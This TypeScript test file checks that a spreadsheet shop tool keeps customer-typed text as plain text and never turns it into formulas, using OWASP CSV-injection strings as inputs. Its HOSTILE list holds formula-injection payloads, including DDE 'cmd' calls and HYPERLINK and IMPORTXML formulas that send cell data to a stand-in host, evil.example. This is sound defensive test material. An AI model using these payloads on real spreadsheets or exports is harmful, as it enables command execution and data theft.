// Whatever a shop's customers type (OWASP's list of CSV injections), in every column whose words we write: no cell becomes a
// formula, in no sheet, column or hidden copy, and what is shown is what was typed.

import { Book } from 'local-sheets/book/workbook.ts';
import { expect, test } from 'vitest';
import { RESULT_KINDS } from '../../src/terms/result-kinds.generated.ts';
import { type Document, openDocument, serial } from './document.ts';

/** owasp.org, CSV Injection: = + - @, tab, carriage return, line feed, their full-width forms, blanks nobody sees. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Pay")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example","//a")',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠SUM(1)',
  "'=1+1",
  '{=1+1}',
  'Ann;=1+1',
] as const;
const HEADERS = ['Order', 'Customer', 'Date', 'Total', 'Product', 'Store', 'Channel', 'Status'];

async function shopOf(texts: readonly string[]): Promise<Document> {
  const book = Book.blank({ sheetName: '=Orders()', rows: 80, columns: 9 });
  const [orders] = book.sheets;
  HEADERS.forEach((header, j) => {
    orders.put(0, j, header);
  });
  // Three orders each, so that every one is a customer, a product, a store and a channel worth a line.
  for (let i = 0; i < texts.length * 3; i++) {
    const text = texts[i % texts.length];
    const cells = [`${text}${i}`, text, serial('2023-01-03') + i * 5, 100 + i, text, text, text, 'paid'];
    cells.forEach((cell, j) => {
      orders.put(i + 1, j, cell);
    });
  }
  orders.put(2, 7, '=paid()');
  orders.applyStyle({ row: 1, endRow: 80, column: 2, endColumn: 3 }, { numberFormat: 'yyyy-mm-dd' });
  return openDocument({ book });
}

test('every text stays text, as it was typed', async () => {
  const shop = await shopOf(HOSTILE);
  const outputs = { sheets: [...RESULT_KINDS], tagColumns: true, cohortColumns: true };
  shop.run(shop.settings({ outputs }));
  shop.orders.put(1, 3, 9_999);
  shop.run(shop.settings({ outputs }));
  expect(shop.book.sheets.some(({ hidden }) => hidden)).toBe(true);
  for (const sheet of shop.book.sheets) expect([...sheet.formulas()], sheet.name).toEqual([]);
  const { header, rows } = shop.tables().customers;
  const names = rows.map((row) => row[header.indexOf('customer')]);
  // The same letters in another width are one customer, written as most orders write it, here as the first does.
  expect([...names].sort()).toEqual(HOSTILE.filter((text) => text !== '＝1+1').sort());
});

test('full-width letters are shown full-width, and are the same customer as narrow ones', async () => {
  const shop = await shopOf(['ＡＢ１', '＝1+1', '王 小明', 'Ｊｏｈｎ']);
  shop.orders.put(1, 1, 'AB1');
  shop.run();
  const customers = () => shop.tables().customers.rows.map(([name]) => name);
  expect([...customers()].sort()).toEqual(['ＡＢ１', '＝1+1', '王 小明', 'Ｊｏｈｎ'].sort());
  // A note stays with its customer when most orders come to write the name the other way.
  const sheet = shop.sheet('Customers');
  const rowOf = (key: string) =>
    Array.from({ length: sheet.lastRow() }, (_, row) => row).find((row) => sheet.value(row, 0) === key) ?? -1;
  const row = rowOf('ＡＢ１');
  sheet.put(row, 25, 'owes 300');
  for (const at of [5, 9]) shop.orders.put(at, 1, 'AB1');
  shop.orders.put(13, 3, 50_000);
  shop.run();
  expect(sheet.value(rowOf('AB1'), 25)).toBe('owes 300');
  expect(rowOf('ＡＢ１')).toBe(-1);
});
